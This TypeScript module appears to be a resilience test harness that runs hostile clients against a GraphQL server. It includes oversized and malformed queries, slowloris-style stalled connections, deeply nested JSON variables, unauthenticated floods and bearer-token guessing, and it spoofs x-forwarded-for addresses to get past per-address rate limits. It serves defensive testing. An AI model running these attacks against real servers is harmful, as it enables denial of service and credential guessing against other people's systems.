import { randomInt } from 'node:crypto'
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

/** The attacked server. */
export interface Target {
  readonly url: string
  /** Somebody who is signed in and owns an org of a hundred invites with long messages. */
  readonly authorization: string
  readonly orgId: string
}

/** A hostile client. It is run again and again until the time is over. */
export type Attack = (target: Target, turn: number) => Promise<void>

const agent = new Agent({ keepAlive: true, maxSockets: 256 })

/** Sends a body, reads the answer and returns its status, or 0 without an answer. */
const post = ({ url }: Target, body: string, headers: Record<string, string> = {}): Promise<number> =>
  new Promise((resolve) => {
    const req = request(`${url}/graphql`, {
      method: 'POST',
      agent,
      headers: {
        'content-type': 'application/json',
        // From many addresses, so that the limits per address do not stop the attack.
        'x-forwarded-for': `10.${randomInt(256)}.${randomInt(256)}.${randomInt(256)}`,
        ...headers,
      },
    })
    req.on('response', (res) => {
      res.resume()
      res.once('close', () => resolve(res.statusCode ?? 0))
    })
    req.on('error', () => resolve(0))
    req.end(body)
  })

const ask = (target: Target, query: string, variables?: unknown, headers?: Record<string, string>) =>
  post(target, JSON.stringify({ query, variables }), headers)

const largeAnswer = `query($id: ID!) { org(id: $id) { invites(first: 20) { nodes { org { invites(first: 60) { nodes {
  message } } } } } } }`

/** Opens a connection, sends the text, and then does nothing for a while. */
const stall = ({ url }: Target, text: string, ms: number): Promise<void> =>
  new Promise((resolve) => {
    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => socket.write(text))
    socket.pause()
    socket.on('error', () => {})
    const over = setTimeout(() => socket.destroy(), ms)
    socket.once('close', () => {
      clearTimeout(over)
      resolve()
    })
  })

const rawPost = (body: string, length: number, authorization: string) =>
  `POST /graphql HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\nauthorization: ${authorization}\r\nx-forwarded-for: 10.1.${randomInt(256)}.${randomInt(256)}\r\ncontent-length: ${length}\r\n\r\n${body}`

export const attacks: Readonly<Record<string, Attack>> = {
  async 'large documents, each asked twice'(target, turn) {
    const query = `{ nodes(ids: [${'1 '.repeat(1_900)}${turn}]) { id } }`
    await ask(target, query)
    await ask(target, query)
  },
  async 'invalid documents'(target, turn) {
    await ask(target, `{ ${'x '.repeat(1_900)} y${turn} }`)
    await ask(target, `{ viewer { ${'{ '.repeat(100)} } ${turn}`)
  },
  async 'documents of comments'(target, turn) {
    const query = `{ viewer { id } } ${'#\n'.repeat(100_000)} # ${turn}`
    for (let times = 0; times < 3; times++) await ask(target, query)
  },
  async 'large answers that are never read'(target) {
    const body = JSON.stringify({ query: largeAnswer, variables: { id: target.orgId } })
    await stall(target, rawPost(body, Buffer.byteLength(body), target.authorization), 5_000)
  },
  async 'bodies that are never finished'(target) {
    await stall(target, rawPost('x'.repeat(250_000), 260_000, target.authorization), 3_000)
  },
  async 'long strings'(target, turn) {
    const text = `${turn}${'\u0301\u0327'.repeat(4_000)}`
    await ask(target, 'query($a: String!) { orgByName(name: $a) { id } userByEmail(email: $a) { id } }', {
      a: text,
    })
    await ask(
      target,
      'query($a: String) { orgs(search: $a) { totalCount } }',
      { a: text },
      { authorization: target.authorization },
    )
  },
  async 'deep variables'(target) {
    const deep = `${'{"a":'.repeat(40_000)}1${'}'.repeat(40_000)}`
    await post(target, `{"query":"query($a: ID!) { org(id: $a) { id } }","variables":{"a":${deep}}}`)
    const wide = JSON.stringify(Array.from({ length: 12_000 }, (_, id) => ({ id })))
    await post(target, `{"query":"query($a: [ID!]!) { nodes(ids: $a) { id } }","variables":{"a":${wide}}}`)
  },
  async 'floods by nobody'(target) {
    await Promise.all(Array.from({ length: 50 }, () => ask(target, '{ viewer { id } }')))
  },
  async 'guesses of credentials'(target, turn) {
    const guess = `gh_${'a'.repeat(20)}${turn}`
    await ask(target, '{ viewer { id } }', undefined, { authorization: `Bearer ${guess}` })
  },
}

/**
 * Runs all attacks side by side, each several times at once, until the time is over.
 * @returns how often each attack ran
 */
export async function attack(
  target: Target,
  ms: number,
  sideBySide: number,
): Promise<Record<string, number>> {
  const end = performance.now() + ms
  let turn = 0
  const runs: Record<string, number> = {}
  const runRepeatedly = async (name: string, one: Attack) => {
    while (performance.now() < end) {
      await one(target, turn++)
      runs[name] = (runs[name] ?? 0) + 1
      await delay(1)
    }
  }
  await Promise.all(
    Object.entries(attacks).flatMap(([name, one]) =>
      Array.from({ length: sideBySide }, () => runRepeatedly(name, one)),
    ),
  )
  agent.destroy()
  return runs
}
